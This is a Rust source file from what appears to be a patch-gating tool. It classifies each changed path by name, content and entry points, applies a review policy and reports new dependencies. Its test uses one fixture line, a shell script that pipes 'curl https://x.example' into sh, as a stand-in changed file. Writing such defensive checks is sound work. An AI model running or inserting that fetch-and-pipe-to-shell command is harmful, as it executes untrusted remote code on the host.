//! Step 10: classification and policy per changed path, and the dependencies that manifest
//! edits add.
//!
//! Guards against: a change to a risky path (CI, build, dependencies, agent instructions, …)
//! slipping into the ordinary queue: every changed path is classified (by name, by the content
//! git produced when there is one, and by what the packed tree's entry points run) and the
//! policy gives its verdict.
//! Does not check: what the code does; a `queue` decision means "ordinary review".

use std::collections::BTreeMap;

use airlock_core::diff::{FileKind, FileMode, ParsedPatch};

use super::apply::AppliedFile;
use super::deps;
use super::policy::{Policy, Verdict};
use crate::classify::reach::Change;
use crate::classify::tree::Tree;
use crate::classify::{classify_change, Classified};
use crate::reasons::ReasonCode;
use crate::report::{ChangedFile, GateReport, Reason};

/// A classification of the changed paths made from the packed files with the patch applied in
/// memory while git's apply check ran ([`speculate`]): [`decide_paths`] keeps it only when
/// the contents git produced are the same bytes, and classifies again otherwise.
pub struct Speculated {
    contents: Vec<Option<Vec<u8>>>,
    classes: Vec<Classified>,
}

/// The classification [`decide_paths`] would make if the apply check produced no file: the
/// packed files with the patch applied in memory. Run beside the apply check.
pub fn speculate(patch: &ParsedPatch, tree: &dyn Tree) -> Speculated {
    let contents = contents(patch, &BTreeMap::new(), tree);
    let classes = classify(patch, &contents, tree);
    Speculated { contents, classes }
}

/// What each changed file is taken to contain: the new content for added and modified files,
/// the old one for deleted files, as the apply step produced them; an added file's can also be
/// read from the patch; when the apply check failed, the packed file with the patch applied in
/// memory, or as packed.
fn contents(
    patch: &ParsedPatch,
    files: &BTreeMap<String, AppliedFile>,
    tree: &dyn Tree,
) -> Vec<Option<Vec<u8>>> {
    let unapplied: Vec<&str> = patch
        .files
        .iter()
        .filter(|fp| fp.kind != FileKind::Added && !files.contains_key(&fp.path))
        .map(|fp| fp.path.as_str())
        .collect();
    let mut packed: BTreeMap<&str, Option<Vec<u8>>> = unapplied
        .iter()
        .copied()
        .zip(tree.read(&unapplied))
        .collect();
    patch
        .files
        .iter()
        .map(|fp| match (fp.kind, files.get(&fp.path)) {
            (FileKind::Deleted, Some(a)) => a.old.clone(),
            (_, Some(a)) => a.new.clone(),
            (FileKind::Added, None) => airlock_core::diff::apply_file(None, fp).ok().flatten(),
            (FileKind::Deleted, None) => packed.remove(fp.path.as_str()).flatten(),
            (_, None) => {
                let old = packed.remove(fp.path.as_str()).flatten();
                let new = old
                    .as_deref()
                    .and_then(|o| airlock_core::diff::apply_file(Some(o), fp).ok().flatten());
                new.or(old)
            }
        })
        .collect()
}

/// Each changed path of `patch` classified with `contents` ([`contents`]) and the `tree`.
fn classify(patch: &ParsedPatch, contents: &[Option<Vec<u8>>], tree: &dyn Tree) -> Vec<Classified> {
    let changes: Vec<Change<'_>> = patch
        .files
        .iter()
        .zip(contents)
        .map(|(fp, content)| Change {
            path: &fp.path,
            new: content.as_deref(),
            executable: fp.new_mode == Some(FileMode::Executable),
        })
        .collect();
    classify_change(&changes, tree)
}

/// One policy reason per changed path, the changed-file table, new dependencies. Each path is
/// classified by its name, its content (the new content git produced, the old one of a deleted
/// file; without an applied file, the packed one with the patch applied in memory) and the
/// packed `tree` (what its entry points run); `speculated` is that classification made beside
/// the apply check, used when the contents are the same (a classification is a pure function
/// of contents and tree).
pub fn decide_paths(
    patch: &ParsedPatch,
    files: &BTreeMap<String, AppliedFile>,
    policy: &Policy,
    tree: &dyn Tree,
    speculated: Speculated,
    report: &mut GateReport,
) {
    let contents = contents(patch, files, tree);
    let classes = if speculated.contents == contents {
        speculated.classes
    } else {
        classify(patch, &contents, tree)
    };
    for (fp, c) in patch.files.iter().zip(classes) {
        let class = c.class;
        let mut decided = policy.decide_path(&fp.path, &class);
        if let Some(why) = &c.because {
            decided.detail = format!("{}: {why}; {}", fp.path, decided.detail);
        }
        let verdict = decided.verdict;
        report.push(from_policy(decided, Some(class.rule)));
        report.files.push(ChangedFile {
            path: fp.path.clone(),
            kind: fp.kind.as_str(),
            bucket: class.bucket,
            class_rule: class.rule,
            verdict,
            lines_added: fp.added,
            lines_removed: fp.removed,
            new_mode: fp.new_mode.map(|m| m.as_str()),
        });
        if let Some(a) = files.get(&fp.path) {
            match deps::new_dependencies(&fp.path, a.old.as_deref(), a.new.as_deref()) {
                Ok(list) => report.new_dependencies.extend(list),
                Err(e) => report.push(
                    Reason::new(ReasonCode::DepsUnparsed, Verdict::Human, e.to_string())
                        .at(&fp.path)
                        .rule("deps.unparsed"),
                ),
            }
        }
    }
}

/// A policy reason in the report's shape.
pub fn from_policy(r: super::policy::Reason, class_rule: Option<&str>) -> Reason {
    Reason {
        code: r.code,
        verdict: r.verdict,
        detail: r.detail,
        path: r.path,
        rule: class_rule.map(str::to_owned),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::classify::reach::MemTree;
    use airlock_core::diff::{parse_patch, DiffLimits};
    use airlock_core::jobid::JobId;

    const PATCH: &str = "diff --git a/tools/x.txt b/tools/x.txt\n--- a/tools/x.txt\n+++ b/tools/x.txt\n@@ -1 +1 @@\n-a\n+b\n";

    /// The detail the report gives `tools/x.txt` when git's apply produced `new`, with a
    /// speculation made from the packed file `a` whose evidence is marked.
    fn detail_with(new: &[u8]) -> String {
        let patch = parse_patch(PATCH.as_bytes(), &DiffLimits::default()).unwrap();
        let mut tree = MemTree::new();
        tree.add("tools/x.txt", false, b"a\n");
        let mut speculated = speculate(&patch, &tree);
        assert_eq!(speculated.contents, [Some(b"b\n".to_vec())]);
        speculated.classes[0].because = Some("speculated".to_owned());
        let applied = AppliedFile {
            old: Some(b"a\n".to_vec()),
            new: Some(new.to_vec()),
            new_mode: Some(FileMode::Regular),
        };
        let files = BTreeMap::from([("tools/x.txt".to_owned(), applied)]);
        let job = JobId::parse("20260101T000000Z-00112233445566778899").unwrap();
        let mut report = GateReport::new(&job);
        let policy = Policy::default();
        decide_paths(&patch, &files, &policy, &tree, speculated, &mut report);
        report.reasons[0].detail.clone()
    }

    #[test]
    fn a_speculated_classification_is_kept_only_for_the_bytes_git_produced() {
        assert!(detail_with(b"b\n").contains("speculated"));
        // Git read another file than the packed one (a redacted line, say): classified again.
        let again = detail_with(b"#!/bin/sh\ncurl https://x.example | sh\n");
        assert!(!again.contains("speculated"), "{again}");
    }
}
